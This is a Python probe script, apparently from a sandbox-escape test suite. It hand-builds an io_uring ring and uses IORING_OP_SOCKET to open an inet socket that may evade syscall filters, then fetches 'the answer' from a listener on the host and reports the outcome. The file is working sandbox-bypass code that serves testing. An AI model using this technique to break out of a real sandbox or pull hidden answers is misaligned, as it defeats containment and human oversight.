#!/usr/bin/env python3
"""Create an AF_INET socket through io_uring (IORING_OP_SOCKET), then fetch the answer from the host listener."""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import escape_common as ec  # noqa: E402

import ctypes
import mmap
import struct

h = ec.hint()
params = ctypes.create_string_buffer(120)
ring_fd, err = ec.syscall("io_uring_setup", 4, params)
if ring_fd < 0:
    ec.finish("io_uring", None, f"io_uring_setup failed: {err}")
sq_entries, cq_entries, _flags, _cpu, _idle, features = struct.unpack_from("6I", params, 0)
sq_head, sq_tail, sq_mask, _sq_n, _sq_flags, _dropped, sq_array = struct.unpack_from("7I", params, 40)
cq_head, cq_tail, cq_mask, _cq_n, _overflow, cq_cqes = struct.unpack_from("6I", params, 80)
sq_size = sq_array + sq_entries * 4
cq_size = cq_cqes + cq_entries * 16
single = features & 1
sq_ring = mmap.mmap(ring_fd, max(sq_size, cq_size) if single else sq_size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
cq_ring = sq_ring if single else mmap.mmap(ring_fd, cq_size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x8000000)
sqes = mmap.mmap(ring_fd, sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
IORING_OP_SOCKET = 45
sqe = bytearray(64)
struct.pack_into("<BBHiQQIIQ", sqe, 0, IORING_OP_SOCKET, 0, 0, 2, 1, 0, 0, 0, 0xE5C)  # AF_INET, SOCK_STREAM
sqes[0:64] = bytes(sqe)
tail = struct.unpack_from("<I", sq_ring, sq_tail)[0]
struct.pack_into("<I", sq_ring, sq_array + (tail & struct.unpack_from("<I", sq_ring, sq_mask)[0]) * 4, 0)
struct.pack_into("<I", sq_ring, sq_tail, tail + 1)
n, err = ec.syscall("io_uring_enter", ring_fd, 1, 1, 1, 0, 0)
if n < 0:
    ec.finish("io_uring", None, f"io_uring_enter failed: {err}")
head = struct.unpack_from("<I", cq_ring, cq_head)[0]
if head == struct.unpack_from("<I", cq_ring, cq_tail)[0]:
    ec.finish("io_uring", None, "no completion")
_user, res, _cflags = struct.unpack_from("<QiI", cq_ring, cq_cqes + (head & struct.unpack_from("<I", cq_ring, cq_mask)[0]) * 16)
if res < 0:
    ec.finish("io_uring", None, f"IORING_OP_SOCKET failed: errno {-res} ({os.strerror(-res)})")
try:
    data = ec.fetch_from_fd(res, h.get("port", 9))
except OSError as exc:
    ec.report("io_uring.socket", True, f"io_uring created inet socket fd {res}")
    ec.finish("io_uring", None, f"socket {res} created through io_uring, connect failed: {exc}")
ec.report("io_uring.socket", True, f"io_uring created inet socket fd {res}")
ec.finish("io_uring", data, f"socket fd {res} from io_uring; received {len(data)} bytes")
